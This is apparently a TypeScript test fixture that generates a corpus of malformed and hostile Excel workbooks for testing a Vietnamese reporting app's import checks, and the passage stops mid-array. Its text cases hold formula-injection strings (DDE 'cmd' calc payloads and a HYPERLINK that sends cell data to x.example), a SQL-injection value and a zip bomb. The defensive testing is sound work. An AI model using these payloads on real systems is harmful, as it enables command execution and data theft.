// The hostile-input corpus, made by code: files a hundred people with Excel habits, old fonts, broken
// disks or bad intent could send. Each case names what import must answer.
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { randomBytes } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { DocumentRecord } from '../../shared/types.ts';
import type { UnitAnswers } from '../../electron/workbook/input-filler.ts';

export type Outcome = 'accepted' | 'rejected';

export interface CorpusCase {
  id: string;
  title: string;
  expect: Outcome;
  /** The finding code import must report (error for rejections, warning/info when accepted). */
  code?: string;
  message?: RegExp;
  /** For accepted cases: figures or texts that must be stored as read. */
  stored?: { values?: Record<string, number | null>; texts?: Record<string, string>; documents?: number; documentTexts?: string[] };
  make: (base: CorpusBase) => Promise<Buffer>;
  /**
   * For cases about the file system: puts something at a path in `dir` (a link, a FIFO, a folder), given
   * the bytes `make` made, and returns the path to import. Only where the platform can (POSIX).
   */
  place?: (dir: string, bytes: Buffer, companion?: Buffer) => string;
  /** A second file for `place` to put beside the first (a batch case: two files of one unit). */
  companion?: (base: CorpusBase) => Promise<Buffer>;
  /** Too big for exceljs to load (it expands ranges): the reader comparison leaves it out. */
  heavy?: boolean;
}

export interface CorpusBase {
  /** A valid filled workbook of commune X03, 2026, after `mutate`. */
  workbook: (mutate?: (wb: ExcelJS.Workbook) => void, answers?: UnitAnswers) => Promise<Buffer>;
  valid: Buffer;
}

const DOC: DocumentRecord = {
  cap: 'Cấp xã',
  loai: 'Kế hoạch',
  so_ky_hieu: '12/KH-UBND',
  ngay: '2026-02-05',
  co_quan: 'UBND xã Tân Phú',
  trich_yeu: 'Kế hoạch phòng, chống xâm hại trẻ em năm 2026',
};

function named(wb: ExcelJS.Workbook, name: string): ExcelJS.Cell {
  const ref = wb.definedNames.model.find((d) => d.name === name)!.ranges[0]!;
  const [sheet, addr] = ref.split('!');
  return wb.getWorksheet(sheet!.replace(/'/g, ''))!.getCell(addr!.replace(/\$/g, '').split(':')[0]!);
}

function setMeta(wb: ExcelJS.Workbook, key: string, value: ExcelJS.CellValue): void {
  const meta = wb.getWorksheet('_meta')!;
  for (let r = 1; r <= meta.rowCount; r++) if (meta.getCell(r, 1).value === key) meta.getCell(r, 2).value = value;
}

async function editZip(buf: Buffer, edit: (zip: JSZip) => Promise<void> | void): Promise<Buffer> {
  const zip = await JSZip.loadAsync(buf);
  await edit(zip);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

async function editXml(buf: Buffer, file: string, edit: (xml: string) => string): Promise<Buffer> {
  return editZip(buf, async (zip) => {
    const xml = await zip.file(file)!.async('string');
    zip.file(file, edit(xml));
  });
}

/** The worksheet part of a sheet, by name, inside the zip. */
async function sheetPart(buf: Buffer, name: string): Promise<string> {
  const zip = await JSZip.loadAsync(buf);
  const wbXml = await zip.file('xl/workbook.xml')!.async('string');
  const rid = new RegExp(`<sheet [^>]*name="${name}"[^>]*r:id="(rId\\d+)"`).exec(wbXml)![1];
  const rels = await zip.file('xl/_rels/workbook.xml.rels')!.async('string');
  const target = new RegExp(`Id="${rid}"[^>]*Target="([^"]+)"`).exec(rels)?.[1] ?? new RegExp(`Target="([^"]+)"[^>]*Id="${rid}"`).exec(rels)![1]!;
  return `xl/${target.replace(/^\/?xl\//, '')}`;
}

const bytes = (n: number, fill?: number) => (fill === undefined ? randomBytes(n) : Buffer.alloc(n, fill));
const ok = (id: string, title: string, make: CorpusCase['make'], extra: Partial<CorpusCase> = {}): CorpusCase => ({
  id,
  title,
  expect: 'accepted',
  make,
  ...extra,
});
const no = (id: string, title: string, code: string, make: CorpusCase['make'], message?: RegExp): CorpusCase => ({
  id,
  title,
  expect: 'rejected',
  code,
  make,
  message,
});

function containerCases(): CorpusCase[] {
  const cases: CorpusCase[] = [
    no('zip-empty', 'Tệp rỗng 0 byte', 'not_xlsx', async () => Buffer.alloc(0), /rỗng/),
    no('zip-1byte', 'Tệp 1 byte', 'not_xlsx', async () => Buffer.from('P')),
    no('zip-text', 'Tệp văn bản đổi đuôi .xlsx', 'not_xlsx', async () => Buffer.from('Báo cáo số liệu năm 2026\n')),
    no('zip-html', 'Trang HTML lưu thành .xlsx', 'not_xlsx', async () => Buffer.from('<html><body><table><tr><td>1</td></tr></table></body></html>')),
    no('zip-pdf', 'Tệp PDF đổi đuôi', 'not_xlsx', async () => Buffer.concat([Buffer.from('%PDF-1.7\n'), bytes(2000)])),
    no('zip-png', 'Ảnh PNG đổi đuôi', 'not_xlsx', async () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), bytes(500)])),
    no(
      'zip-xls',
      'Tệp Excel 97-2003 (.xls) đổi đuôi',
      'not_xlsx',
      async () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), bytes(8000, 0)]),
      /\.xls/,
    ),
    no(
      'zip-password',
      'Tệp .xlsx đặt mật khẩu (vỏ OLE mã hóa)',
      'not_xlsx',
      async () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.from('EncryptionInfo'), bytes(4000)]),
      /mật khẩu/,
    ),
    no('zip-ods', 'Bảng tính LibreOffice .ods (không phải .xlsx)', 'not_template', async () => {
      const zip = new JSZip();
      zip.file('mimetype', 'application/vnd.oasis.opendocument.spreadsheet');
      zip.file('content.xml', '<office:document-content/>');
      return zip.generateAsync({ type: 'nodebuffer' });
    }),
    no('zip-nonexcel', 'Tệp nén không chứa bảng tính', 'not_template', async () => {
      const zip = new JSZip();
      zip.file('readme.txt', 'xin chào');
      return zip.generateAsync({ type: 'nodebuffer' });
    }),
    no('zip-cd-corrupt', 'Mục lục tệp nén bị ghi đè', 'not_xlsx', async ({ valid }) => {
      const b = Buffer.from(valid);
      const eocd = b.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
      b.writeUInt32LE(b.length + 100, eocd + 16);
      return b;
    }),
    no('zip-no-eocd', 'Tệp nén mất phần cuối', 'not_xlsx', async ({ valid }) => valid.subarray(0, valid.length - 30)),
    no(
      'zip-bomb',
      'Zip bomb: 120 MB số 0 nén còn vài trăm KB',
      'too_large',
      async ({ valid }) => editZip(valid, (zip) => void zip.file('xl/media/bomb.bin', Buffer.alloc(120 * 1024 * 1024))),
      /quá lớn/,
    ),
    no(
      'zip-bomb-lying-size',
      'Zip bomb khai báo sai kích thước (60 MB khai là 1 KB)',
      'too_large',
      async ({ valid }) => {
        const name = 'xl/theme/theme9.xml';
        const b = await editZip(valid, (zip) => void zip.file(name, ' '.repeat(60 * 1024 * 1024)));
        // Rewrite the declared uncompressed size of that entry, in its local header and in the directory.
        const key = Buffer.from(name);
        for (let at = b.indexOf(key); at >= 0; at = b.indexOf(key, at + 1)) {
          if (b.readUInt32LE(at - 30) === 0x04034b50) b.writeUInt32LE(1000, at - 30 + 22);
          if (b.readUInt32LE(at - 46) === 0x02014b50) b.writeUInt32LE(1000, at - 46 + 24);
        }
        return b;
      },
      /nhiều hơn kích thước khai báo/,
    ),
    no('zip-declared-huge', 'Kích thước giải nén khai báo 4 GB', 'too_large', async ({ valid }) => {
      const b = Buffer.from(valid);
      const eocd = b.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
      const cd = b.readUInt32LE(eocd + 16);
      b.writeUInt32LE(0xffffffff, cd + 24);
      return b;
    }),
    no('zip-over-20mb', 'Tệp lớn hơn 20 MB', 'too_large', async ({ valid }) => Buffer.concat([valid, bytes(21 * 1024 * 1024, 0)]), /tối đa 20 MB/),
    no('zip-sheet-garbage', 'Trang tính có XML hỏng', 'not_xlsx', async ({ valid }) => editXml(valid, 'xl/workbook.xml', (x) => x.slice(0, x.length / 2))),
    no('zip-missing-sheet-part', 'Thiếu tệp trang tính bên trong', 'missing_name', async ({ valid }) =>
      editZip(valid, (z) => void z.remove('xl/worksheets/sheet2.xml')),
    ),
  ];
  for (const [i, frac] of [0.01, 0.05, 0.1, 0.2, 0.25, 0.33, 0.4, 0.5, 0.6, 0.66, 0.75, 0.8, 0.9, 0.97, 0.995].entries()) {
    cases.push(
      no(`zip-truncated-${i + 1}`, `Tệp bị cắt còn ${Math.round(frac * 1000) / 10}% (tải xuống dở dang)`, 'not_xlsx', async ({ valid }) =>
        valid.subarray(0, Math.floor(valid.length * frac)),
      ),
    );
  }
  for (const n of [16, 100, 1024, 4096, 65536, 1048576]) cases.push(no(`zip-random-${n}`, `${n} byte ngẫu nhiên`, 'not_xlsx', async () => bytes(n)));
  return cases;
}

function metaCases(): CorpusCase[] {
  const m = (id: string, title: string, code: string, key: string, value: ExcelJS.CellValue, message?: RegExp) =>
    no(id, title, code, ({ workbook }) => workbook((wb) => setMeta(wb, key, value)), message);
  return [
    no(
      'meta-missing',
      'Không có trang _meta',
      'not_template',
      ({ workbook }) => workbook((wb) => wb.removeWorksheet(wb.getWorksheet('_meta')!.id)),
      /không phải biểu mẫu của Báo cáo 121/,
    ),
    no('meta-renamed', 'Trang _meta bị đổi tên', 'not_template', ({ workbook }) => workbook((wb) => (wb.getWorksheet('_meta')!.name = 'meta'))),
    m('meta-id-other', 'Mã biểu mẫu của phần mềm khác', 'not_template', 'template_id', 'nq456'),
    m('meta-id-empty', 'Mã biểu mẫu bị xóa', 'not_template', 'template_id', null),
    m('meta-id-case', 'Mã biểu mẫu viết hoa NQ121', 'not_template', 'template_id', 'NQ121'),
    m('meta-version-2', 'Biểu mẫu phiên bản 2 (mới hơn)', 'template_version', 'template_version', 2, /phiên bản 2/),
    m('meta-version-99', 'Biểu mẫu phiên bản 99', 'template_version', 'template_version', 99),
    m('meta-version-text', 'Phiên bản biểu mẫu là chữ', 'template_version', 'template_version', 'mới nhất'),
    m('meta-version-0', 'Phiên bản biểu mẫu 0', 'template_version', 'template_version', 0),
    m('meta-unit-unknown', 'Mã đơn vị không có trong danh sách', 'unknown_unit', 'unit_code', 'X99', /"X99"/),
    m('meta-unit-empty', 'Mã đơn vị bị xóa', 'unknown_unit', 'unit_code', null),
    m('meta-unit-root', 'Mã đơn vị là cấp tỉnh (không báo cáo)', 'unknown_unit', 'unit_code', 'TINH'),
    m('meta-unit-injection', 'Mã đơn vị chứa câu lệnh SQL', 'unknown_unit', 'unit_code', "X03' OR '1'='1"),
    m('meta-year-2019', 'Năm 2019 ngoài các năm của cơ sở dữ liệu', 'wrong_year', 'year', 2019, /"2019"/),
    m('meta-year-2101', 'Năm 2101', 'wrong_year', 'year', 2101),
    m('meta-year-text', 'Năm là chữ', 'wrong_year', 'year', 'hai nghìn'),
    m('meta-year-decimal', 'Năm 2026,5', 'wrong_year', 'year', 2026.5),
    m('meta-year-empty', 'Năm bị xóa', 'wrong_year', 'year', null),
    ok('meta-visible', 'Trang _meta bị hiện ra (Excel, LibreOffice)', ({ workbook }) => workbook((wb) => (wb.getWorksheet('_meta')!.state = 'visible'))),
    ok('meta-no-workbook-id', 'Mất workbook_id', ({ workbook }) => workbook((wb) => setMeta(wb, 'workbook_id', null))),
    ok('meta-extra-rows', 'Trang _meta có thêm dòng rác', ({ workbook }) =>
      workbook((wb) => {
        const meta = wb.getWorksheet('_meta')!;
        meta.getCell(40, 1).value = 'rac';
        meta.getCell(40, 2).value = '=1+1';
      }),
    ),
    ok('meta-year-text-number', 'Năm ghi dạng chữ "2026"', ({ workbook }) => workbook((wb) => setMeta(wb, 'year', '2026'))),
  ];
}

function nameCases(): CorpusCase[] {
  const drop = (name: string) => (wb: ExcelJS.Workbook) => {
    wb.definedNames.model = wb.definedNames.model.filter((d) => d.name !== name);
  };
  const cases: CorpusCase[] = ['v_pl01_bl_vu', 'v_pl01_khac_12den16', 'v_tt_cuoc', 'v_nl_kinh_phi_xh', 't_a2', 't_c5', 'r_pl02'].map((n) =>
    no(`name-deleted-${n}`, `Tên ô ${n} bị xóa`, 'missing_name', ({ workbook }) => workbook(drop(n)), new RegExp(n)),
  );
  cases.push(
    no('name-ref-error', 'Tên ô trỏ tới #REF! (dòng bị xóa)', 'missing_name', async ({ valid }) =>
      editXml(valid, 'xl/workbook.xml', (x) => x.replace(/(<definedName name="v_pl01_bl_nu">)[^<]*/, '$1#REF!')),
    ),
    no('name-other-sheet', 'Tên ô trỏ tới trang không tồn tại', 'missing_name', async ({ valid }) =>
      editXml(valid, 'xl/workbook.xml', (x) => x.replace(/(<definedName name="v_pl01_bl_nu">)[^<]*/, "$1'KHONG_CO'!$C$6")),
    ),
    no('sheet-deleted', 'Trang PL01 bị xóa', 'missing_name', ({ workbook }) => workbook((wb) => wb.removeWorksheet(wb.getWorksheet('PL01')!.id))),
    ok(
      'name-moved-rows',
      'Chèn dòng phía trên bảng: các ô vẫn được tìm theo tên',
      async ({ valid }) => {
        // Move PL01's named cells 3 rows down, as Excel does when the unit inserts rows above the table.
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(valid as unknown as ExcelJS.Buffer);
        const ws = wb.getWorksheet('PL01')!;
        const model = wb.definedNames.model.map((d) => {
          const ref = d.ranges[0]!;
          if (!ref.includes('PL01')) return d;
          const m = /\$([A-Z]+)\$(\d+)/.exec(ref)!;
          const from = ws.getCell(`${m[1]}${m[2]}`);
          const to = ws.getCell(`${m[1]}${Number(m[2]) + 30}`);
          to.value = from.value;
          from.value = 999; // a stale figure left at the old position must not be read
          return { name: d.name, ranges: [`PL01!$${m[1]}$${Number(m[2]) + 30}`] };
        });
        wb.definedNames.model = model;
        return Buffer.from(await wb.xlsx.writeBuffer());
      },
      { stored: { values: { pl01_bl_vu: 2, pl01_bl_tre: 3 } } },
    ),
    ok(
      'sheet-renamed-order',
      'Các trang bị đổi thứ tự',
      async ({ valid }) =>
        editXml(valid, 'xl/workbook.xml', (x) => {
          const sheets = /<sheets>(.*)<\/sheets>/.exec(x)![1]!;
          const parts = sheets.match(/<sheet [^>]*\/>/g)!;
          return x.replace(sheets, [...parts].reverse().join(''));
        }),
      { stored: { values: { pl01_bl_vu: 2 } } },
    ),
    ok('extra-sheet', 'Đơn vị thêm một trang tính ghi chú', ({ workbook }) =>
      workbook((wb) => (wb.addWorksheet('Ghi chu').getCell('A1').value = 'ghi chú riêng')),
    ),
    ok('unprotected', 'Đơn vị bỏ bảo vệ trang tính', ({ workbook }) => workbook((wb) => wb.worksheets.forEach((w) => w.unprotect()))),
  );
  return cases;
}

function numberCasesAcrossCells(): CorpusCase[] {
  const cells = ['v_pl01_khac_12den16', 'v_pl01_xhtd_tre', 'v_tt_cuoc', 'v_nv_tao_hon', 'v_nl_kinh_phi_xh'];
  const values: [string, string, ExcelJS.CellValue, string][] = [
    ['text', 'chữ', 'không rõ', 'not_number'],
    ['negative', 'số âm', -7, 'negative'],
    ['decimal', 'số thập phân', 1.5, 'not_integer'],
  ];
  return cells.flatMap((cell) =>
    values
      .filter(([id]) => !(id === 'decimal' && cell === 'v_nl_kinh_phi_xh'))
      .map(([id, label, value, code]) =>
        no(`cell-${cell.slice(2)}-${id}`, `Ô ${cell.slice(2)}: ${label}`, code, ({ workbook }) => workbook((wb) => (named(wb, cell).value = value))),
      ),
  );
}

function numberCases(): CorpusCase[] {
  type V = ExcelJS.CellValue;
  const bad = (id: string, title: string, code: string, value: V, cell = 'v_pl01_bl_nam') =>
    no(`num-${id}`, title, code, ({ workbook }) => workbook((wb) => (named(wb, cell).value = value)));
  const good = (id: string, title: string, value: V, stored: number | null, cell = 'v_pl01_bl_nam', code?: string) =>
    ok(`num-${id}`, title, ({ workbook }) => workbook((wb) => (named(wb, cell).value = value)), { code, stored: { values: { [cell.slice(2)]: stored } } });
  return [
    bad('text', 'Chữ trong ô số', 'not_number', 'ba em'),
    bad('text-unit', 'Số kèm đơn vị "3 em"', 'not_number', '3 em'),
    bad('text-list', 'Nhiều số "1,2,3"', 'not_number', '1,2,3'),
    bad('text-suffix', 'Số có chữ "12a"', 'not_number', '12a'),
    bad('dash', 'Gạch ngang "-"', 'not_number', '-'),
    bad('question', 'Dấu hỏi "?"', 'not_number', '?'),
    bad('nan', 'Chữ "NaN"', 'not_number', 'NaN'),
    bad('infinity', 'Chữ "Infinity"', 'not_number', 'Infinity'),
    bad('inf-symbol', 'Ký hiệu ∞', 'not_number', '∞'),
    bad('half', 'Phân số ½', 'not_number', '½'),
    bad('fullwidth', 'Chữ số toàn độ rộng "１２"', 'not_number', '１２'),
    bad('trailing-minus', 'Dấu trừ phía sau "5-"', 'not_number', '5-'),
    bad('percent', 'Phần trăm "50%"', 'not_number', '50%'),
    bad('scientific-text', 'Dạng khoa học "1e3"', 'not_number', '1e3'),
    bad('bool', 'Giá trị TRUE', 'not_number', true),
    bad('huge-1e308', 'Số 1e308 (vô hạn khi cộng hai số)', 'value_too_large', 1e308),
    bad('over-ceiling', 'Số 2 tỉ trẻ em (vượt mức tối đa của chỉ tiêu)', 'value_too_large', 2e9),
    bad('ambiguous-comma', 'Chữ "1,000": một hay một nghìn? (hỏi lại đơn vị)', 'ambiguous_number', '1,000'),
    bad('bool-false', 'Giá trị FALSE', 'not_number', false),
    no('num-date', 'Ngày tháng trong ô số (Excel đổi định dạng ô thành ngày)', 'not_number', ({ workbook }) =>
      workbook((wb) => {
        const c = named(wb, 'v_pl01_bl_nam');
        c.value = new Date(Date.UTC(2026, 1, 5));
        c.numFmt = 'dd/mm/yyyy';
      }),
    ),
    good('date-serial', 'Số sê-ri ngày 46058 trong ô định dạng số (là một con số)', 46058, 46058),
    bad('error-div0', 'Lỗi #DIV/0!', 'not_number', { error: '#DIV/0!' } as V),
    bad('error-na', 'Lỗi #N/A', 'not_number', { error: '#N/A' } as V),
    bad('formula-error', 'Công thức ra lỗi #REF!', 'not_number', { formula: 'A1/0', result: { error: '#REF!' } } as unknown as V),
    bad('negative', 'Số âm -1', 'negative', -1),
    bad('negative-text', 'Số âm dạng chữ "-3"', 'negative', '-3'),
    bad('negative-zero-decimal', 'Số âm -0,5', 'negative', -0.5),
    bad('negative-money', 'Tiền âm', 'negative', -12.5, 'v_nl_kinh_phi_nsnn'),
    bad('decimal-count', 'Số thập phân 2,5 trong ô đếm', 'not_integer', 2.5),
    bad('decimal-count-text', 'Số thập phân dạng chữ "2,5" trong ô đếm', 'not_integer', '2,5'),
    bad('decimal-tiny', 'Số 3,0000001 trong ô đếm', 'not_integer', 3.0000001),
    bad('decimal-police', 'Số thập phân trong ô của khối công an… (ô số vụ)', 'not_integer', 0.1, 'v_pl01_xhtd_vu'),
    good('zero', 'Số 0 (không có trường hợp nào)', 0, 0),
    ok(
      'num-merged',
      'Hai ô nhập bị gộp: ô bị che coi là trống, không lấy số của ô kia',
      ({ workbook }) =>
        workbook((wb) => {
          const a = named(wb, 'v_tt_cuoc');
          const b = named(wb, 'v_tt_doi_tuong');
          a.worksheet.unprotect();
          a.worksheet.mergeCells(`${a.address}:${b.address}`);
          a.value = 12;
        }),
      { code: 'merged_input', stored: { values: { tt_cuoc: 12, tt_doi_tuong: null } } },
    ),
    good('blank', 'Để trống (chưa có số liệu)', null, null),
    good('blank-space', 'Ô chỉ có dấu cách', '   ', null),
    good('big', 'Số rất lớn 1.000.000', 1_000_000, 1_000_000),
    good('text-thousands', 'Số dạng chữ "1.234"', '1.234', 1234, 'v_pl01_bl_nam', 'number_as_text'),
    good('text-plain', 'Số dạng chữ "7"', '7', 7, 'v_pl01_bl_nam', 'number_as_text'),
    good('text-spaces', 'Số dạng chữ có dấu cách " 7 "', ' 7 ', 7, 'v_pl01_bl_nam', 'number_as_text'),
    good('text-nbsp', 'Số dạng chữ có dấu cách không ngắt "1 234"', '1\u00a0234', 1234, 'v_pl01_bl_nam', 'number_as_text'),
    good('text-plus', 'Số có dấu cộng "+5"', '+5', 5, 'v_pl01_bl_nam', 'number_as_text'),
    good('money-decimal-text', 'Tiền dạng chữ "12,5"', '12,5', 12.5, 'v_nl_kinh_phi_nsnn', 'number_as_text'),
    good('money-grouped-text', 'Tiền dạng chữ "1.234,5"', '1.234,5', 1234.5, 'v_nl_kinh_phi_nsnn', 'number_as_text'),
    good('money-decimal', 'Tiền 0,125 triệu', 0.125, 0.125, 'v_nl_kinh_phi_nsnn'),
    good('formula', 'Công thức =1+2 với giá trị đã tính', { formula: '1+2', result: 3 } as V, 3, 'v_pl01_bl_nam', 'formula_in_input'),
    good('formula-sum', 'Công thức =SUM(...) trong ô nhập', { formula: 'SUM(C6:C7)', result: 5 } as V, 5, 'v_pl01_bl_nam', 'formula_in_input'),
    good('formula-zero', 'Công thức =1-1 cho kết quả 0 (không phải trống)', { formula: '1-1', result: 0 } as V, 0, 'v_pl01_bl_nam', 'formula_in_input'),
    good('formula-no-cache', 'Công thức chưa tính (không có giá trị lưu)', { formula: '1+2' } as V, null, 'v_pl01_bl_nam', 'formula_in_input'),
    good('formula-text-result', 'Công thức trả về số dạng chữ', { formula: '"4"', result: '4' } as V, 4, 'v_pl01_bl_nam', 'formula_in_input'),
    good(
      'richtext',
      'Số trong ô định dạng nhiều kiểu chữ',
      { richText: [{ text: '1' }, { text: '2', font: { bold: true } }] } as V,
      12,
      'v_pl01_bl_nam',
      'number_as_text',
    ),
  ];
}

// TCVN3 and VNI strings as they arrive from cells typed with .VnTime / VNI-Times.
const LEGACY: [string, string, string][] = [
  ['tcvn3', 'TrÎ em ViÖt Nam', 'Trẻ em Việt Nam'],
  ['tcvn3', 'T×nh h×nh x©m h¹i trÎ em trªn ®Þa bµn', 'Tình hình xâm hại trẻ em trên địa bàn'],
  ['tcvn3', 'Uû ban nh©n d©n x· T©n Phó', 'Uỷ ban nhân dân xã Tân Phú'],
  ['tcvn3', 'Hµ Néi', 'Hà Nội'],
  ['tcvn3', 'Tuyªn truyÒn phßng, chèng x©m h¹i trÎ em', 'Tuyên truyền phòng, chống xâm hại trẻ em'],
  ['vni', 'Treû em Vieät Nam', 'Trẻ em Việt Nam'],
  ['vni', 'Haø Noäi', 'Hà Nội'],
  ['vni', 'Tình hình xaâm haïi treû em', 'Tình hình xâm hại trẻ em'],
  ['vni', 'Tuyeân truyeàn phoøng, choáng xaâm haïi treû em', 'Tuyên truyền phòng, chống xâm hại trẻ em'],
  ['vni', 'Ñaåy maïnh coâng taùc baûo veä treû em', 'Đẩy mạnh công tác bảo vệ trẻ em'],
];

function textCases(): CorpusCase[] {
  const text = (id: string, title: string, value: ExcelJS.CellValue, stored: string, code?: string, cell = 't_a2') =>
    ok(`text-${id}`, title, ({ workbook }) => workbook((wb) => (named(wb, cell).value = value)), { code, stored: { texts: { [cell]: stored } } });
  const cases: CorpusCase[] = [
    text(
      'formula-injection-eq',
      'Chuỗi bắt đầu bằng "=" (chèn công thức)',
      '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
      '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    ),
    text('formula-injection-plus', 'Chuỗi bắt đầu bằng "+"', "+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
    text('formula-injection-minus', 'Chuỗi bắt đầu bằng "-"', "-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    text('formula-injection-at', 'Chuỗi bắt đầu bằng "@"', "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    text('formula-injection-tab', 'Chuỗi bắt đầu bằng tab và "="', '\t=1+1', '\t=1+1'),
    text('html', 'Thẻ HTML/script trong văn bản', '<script>alert("x")</script><b>đậm</b>', '<script>alert("x")</script><b>đậm</b>'),
    text('nfd', 'Tiếng Việt tổ hợp (NFD) được chuẩn hóa NFC', 'Trẻ em Việt Nam'.normalize('NFD'), 'Trẻ em Việt Nam'),
    text('emoji', 'Biểu tượng cảm xúc', 'Trẻ em vui chơi 😀👧', 'Trẻ em vui chơi 😀👧'),
    text('zero-width', 'Ký tự độ rộng 0', 'Trẻ\u200bem', 'Trẻ\u200bem'),
    text('rtl', 'Ký tự điều khiển chiều chữ', 'abc\u202edef', 'abc\u202edef'),
    text('multiline', 'Nhiều đoạn (Alt+Enter)', 'Đoạn một.\nĐoạn hai.\n\nĐoạn ba.', 'Đoạn một.\nĐoạn hai.\n\nĐoạn ba.'),
    text('max-length', 'Văn bản 32.767 ký tự', 'ă'.repeat(32767), 'ă'.repeat(32767)),
    text('over-length', 'Văn bản 40.000 ký tự (cắt còn 32.767)', 'a'.repeat(40000), 'a'.repeat(32767), 'text_too_long'),
    text('number', 'Số trong ô văn bản', 2026, '2026'),
    text('date', 'Ngày trong ô văn bản', new Date(Date.UTC(2026, 4, 1)), '2026-05-01'),
  ];
  LEGACY.forEach(([enc, legacy, unicode], i) =>
    cases.push(text(`${enc}-${i + 1}`, `Văn bản bảng mã ${enc === 'tcvn3' ? 'TCVN3 (ABC)' : 'VNI'}: "${legacy}"`, legacy, unicode, 'legacy_encoding')),
  );
  LEGACY.slice(0, 4).forEach(([enc, legacy, unicode], i) =>
    cases.push(
      ok(
        `doc-${enc}-${i + 1}`,
        `Trích yếu văn bản bảng mã ${enc.toUpperCase()}`,
        ({ workbook }) => workbook(undefined, { documents: [{ ...DOC, trich_yeu: legacy }] }),
        { code: 'legacy_encoding', stored: { documents: 1, documentTexts: [unicode] } },
      ),
    ),
  );
  return cases;
}

function documentCases(): CorpusCase[] {
  const doc = (changes: Partial<DocumentRecord>) => ({ documents: [{ ...DOC, ...changes }] as DocumentRecord[] });
  const cell = (col: string, value: ExcelJS.CellValue) => (wb: ExcelJS.Workbook) => {
    wb.getWorksheet('PL02')!.getCell(`${col}6`).value = value;
  };
  const cases: CorpusCase[] = [];
  for (const [field, label] of [
    ['cap', 'cấp ban hành'],
    ['loai', 'loại văn bản'],
    ['so_ky_hieu', 'số, ký hiệu'],
    ['ngay', 'ngày ban hành'],
    ['trich_yeu', 'trích yếu'],
  ] as const) {
    cases.push(
      no(
        `doc-missing-${field}`,
        `Văn bản thiếu ${label}`,
        'doc_incomplete',
        ({ workbook }) => workbook(undefined, doc({ [field]: '' })),
        new RegExp(`thiếu ${label}`),
      ),
    );
  }
  cases.push(
    no('doc-date-two-digit-year', 'Năm ghi hai chữ số "05/02/26"', 'doc_date', ({ workbook }) => workbook(cell('D', '05/02/26'), doc({}))),
    no('doc-date-slash-iso', 'Ngày dạng "2026/02/05"', 'doc_date', ({ workbook }) => workbook(cell('D', '2026/02/05'), doc({}))),
    no('doc-date-month-13', 'Tháng 13', 'doc_date', ({ workbook }) => workbook(cell('D', '05/13/2026'), doc({}))),
    no('doc-date-bool', 'Ngày là giá trị TRUE', 'doc_date', ({ workbook }) => workbook(cell('D', true), doc({}))),
    no('doc-date-negative', 'Số ngày âm', 'doc_date', ({ workbook }) => workbook(cell('D', -5), doc({}))),
    ok('doc-co-quan-tcvn3', 'Cơ quan ban hành gõ TCVN3', ({ workbook }) => workbook(undefined, doc({ co_quan: 'Uû ban nh©n d©n x· T©n Phó' })), {
      code: 'legacy_encoding',
      stored: { documents: 1 },
    }),
    ok('doc-co-quan-vni', 'Cơ quan ban hành gõ VNI', ({ workbook }) => workbook(undefined, doc({ co_quan: 'UÛy ban nhaân daân xaõ Taân Phuù' })), {
      code: 'legacy_encoding',
      stored: { documents: 1 },
    }),
    ok('doc-ghi-chu-long', 'Ghi chú rất dài', ({ workbook }) => workbook(undefined, doc({ ghi_chu: 'ghi chú '.repeat(2000) })), { stored: { documents: 1 } }),
    ok('doc-no-co-quan', 'Văn bản không ghi cơ quan ban hành (không bắt buộc)', ({ workbook }) => workbook(undefined, doc({ co_quan: '' })), {
      stored: { documents: 1 },
    }),
    no('doc-date-early', 'Ngày ban hành trước 07/01/2021', 'doc_date', ({ workbook }) => workbook(undefined, doc({ ngay: '2020-12-31' })), /31\/12\/2020/),
    no('doc-date-future', 'Ngày ban hành sau ngày nhập', 'doc_date', ({ workbook }) => workbook(undefined, doc({ ngay: '2030-01-01' }))),
    no('doc-date-words', 'Ngày ghi bằng chữ "đầu năm"', 'doc_date', ({ workbook }) => workbook(cell('D', 'đầu năm'), doc({}))),
    no('doc-date-invalid', 'Ngày không tồn tại 31/02/2026', 'doc_date', ({ workbook }) => workbook(cell('D', '31/02/2026'), doc({}))),
    no('doc-date-serial-huge', 'Số ngày quá lớn', 'doc_date', ({ workbook }) => workbook(cell('D', 99999999), doc({}))),
    ok('doc-date-text-dmy', 'Ngày dạng chữ "05/02/2026"', ({ workbook }) => workbook(cell('D', '05/02/2026'), doc({})), { stored: { documents: 1 } }),
    ok('doc-date-text-short', 'Ngày dạng chữ "5-2-2026"', ({ workbook }) => workbook(cell('D', '5-2-2026'), doc({})), { stored: { documents: 1 } }),
    ok('doc-date-text-iso', 'Ngày dạng chữ "2026-02-05"', ({ workbook }) => workbook(cell('D', '2026-02-05'), doc({})), { stored: { documents: 1 } }),
    ok('doc-date-text-dots', 'Ngày dạng chữ "05.02.2026"', ({ workbook }) => workbook(cell('D', '05.02.2026'), doc({})), { stored: { documents: 1 } }),
    ok('doc-date-serial', 'Ngày dạng số sê-ri Excel 46058', ({ workbook }) => workbook(cell('D', 46058), doc({})), { stored: { documents: 1 } }),
    no('doc-cap-unknown', 'Cấp ban hành không có trong danh mục', 'doc_list_value', ({ workbook }) => workbook(undefined, doc({ cap: 'Trung ương' }))),
    no('doc-loai-unknown', 'Loại văn bản không có trong danh mục', 'doc_list_value', ({ workbook }) => workbook(undefined, doc({ loai: 'Thông báo miệng' }))),
    ok('doc-cap-variant', 'Cấp ban hành viết thường, không dấu "cap xa"', ({ workbook }) => workbook(undefined, doc({ cap: 'cap xa' })), {
      stored: { documents: 1 },
    }),
